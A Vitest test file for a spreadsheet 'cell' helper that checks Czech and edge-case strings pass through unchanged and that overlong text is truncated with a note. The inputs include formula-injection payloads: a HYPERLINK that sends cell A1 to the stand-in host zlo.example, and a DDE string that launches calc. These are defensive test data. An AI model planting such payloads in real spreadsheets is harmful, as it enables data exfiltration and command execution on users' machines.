import { describe, expect, it } from 'vitest'
import { cell, LONGEST_CELL } from '../../../shared/sheets/cell.ts'

describe('words', () => {
  it.each([
    '',
    'Paní doktorka nepřišla.',
    '1. 3. 2026',
    '„uvozovky“',
    '=HYPERLINK("http://zlo.example?x="&A1,"klikněte")',
    "+cmd|'/C calc'!A0",
    '-5',
    '@kraj',
    '\ufeff=1+1',
    '\t=1+1',
    '＝1+1',
    "'už s apostrofem",
    'První řádek.\nDruhý řádek.\t=konec',
    'Příliš žluťoučký kůň úpěl ďábelské ódy',
    '👩‍⚖️ soud',
    'a'.repeat(LONGEST_CELL),
  ])('%j are left as they are, without an apostrophe', (words) => {
    expect(cell(words)).toBe(words)
  })
})

describe('a text longer than a cell', () => {
  const note = '… (zkráceno; celé znění je v Opoře)'

  it.each([
    ['by one', 'a'.repeat(LONGEST_CELL + 1)],
    ['by much', 'Stížnost. '.repeat(100_000)],
    ['of signs of two units', '👩'.repeat(LONGEST_CELL)],
    ['of them after one of one', `a${'👩'.repeat(LONGEST_CELL)}`],
  ])('%s is cut and says so', (_how, text) => {
    const cut = cell(text)
    expect(cut.length).toBeLessThanOrEqual(LONGEST_CELL)
    expect(cut.length).toBeGreaterThan(LONGEST_CELL - 3)
    expect(cut.endsWith(`\n${note}`)).toBe(true)
    expect(text.startsWith(cut.slice(0, -note.length - 1))).toBe(true)
    expect(cut.isWellFormed()).toBe(true)
  })

  it('is measured without what is left out', () => {
    expect(cell(`${'\u0000'.repeat(10)}${'a'.repeat(LONGEST_CELL)}`)).toBe('a'.repeat(LONGEST_CELL))
  })
})
